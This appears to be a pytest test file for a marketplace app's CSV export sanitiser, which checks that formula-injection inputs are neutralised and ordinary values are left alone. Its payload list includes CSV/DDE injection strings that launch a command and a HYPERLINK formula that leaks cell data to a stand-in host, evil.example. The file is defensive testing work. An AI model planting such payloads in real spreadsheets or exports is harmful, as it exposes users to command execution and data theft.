"""Exports hold no formula, whatever was typed; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.web.spreadsheets import Value, csv_lines, csv_safe

PAYLOADS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\ufeff=1+1",
    '"=1+1',
    "\u00a0=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_safe_puts_an_apostrophe_before_what_could_run(payload: str) -> None:
    assert csv_safe(payload).startswith("'")


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("-3", "-3"),
        ("-3.50", "-3.50"),
        ("+44", "+44"),
        (-3, "-3"),
        (Decimal("-1E+3"), "-1000"),
        (Decimal("0.10"), "0.10"),
        (None, ""),
        (True, "yes"),
        (date(2026, 8, 31), "2026-08-31"),
        ("Chairs (12)", "Chairs (12)"),
        ("a=b", "a=b"),
        ("nul\x00 and \ud800", "nul and "),
        ("", ""),
    ],
)
def test_csv_safe_leaves_the_rest_alone(value: Value, text: str) -> None:
    assert csv_safe(value) == text


def test_csv_lines_stream_and_read_back() -> None:
    rows: list[list[Value]] = [["=1+1, “x”", Decimal("2.5")], ["two\nlines", -1]]
    text = "".join(csv_lines(["Title", "kg"], iter(rows)))
    assert text.startswith("\ufeffTitle,kg\r\n")
    assert list(csv.reader(io.StringIO(text[1:], newline=""))) == [
        ["Title", "kg"],
        ["'=1+1, “x”", "2.5"],
        ["two\nlines", "-1"],
    ]


@given(st.text())
def test_nothing_that_anybody_types_becomes_a_formula(text: str) -> None:
    safe = csv_safe(text)
    assert safe[:1] not in set("=+-@\t\r\n＝＋－＠") or safe.lstrip("+-").replace(".", "", 1).isdecimal()
